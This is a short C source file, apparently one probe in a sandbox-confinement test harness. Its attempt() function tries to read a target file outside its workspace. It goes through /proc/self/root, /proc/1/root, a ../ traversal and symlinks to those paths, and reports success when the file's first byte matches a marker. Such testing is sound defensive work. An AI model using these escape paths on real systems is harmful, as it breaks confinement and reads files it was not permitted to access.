#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* By the kernel's own ways to a root, asked of whoever decides: it has another one. */
    const char *const ways[] = {"/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd/../../../../../../../.."};
    (void)extra;
    char *link = in(workspace, "way");
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        char *path = NULL, *linked = NULL;
        unlink(link);
        if (symlink(ways[i], link) != 0 || asprintf(&path, "%s%s", ways[i], target) < 0 || asprintf(&linked, "%s%s", link, target) < 0)
            return 0;
        if (first_of(open(path, O_RDONLY)) == 's' || first_of(open(linked, O_RDONLY)) == 's')
            return 1;
    }
    return 0;
}
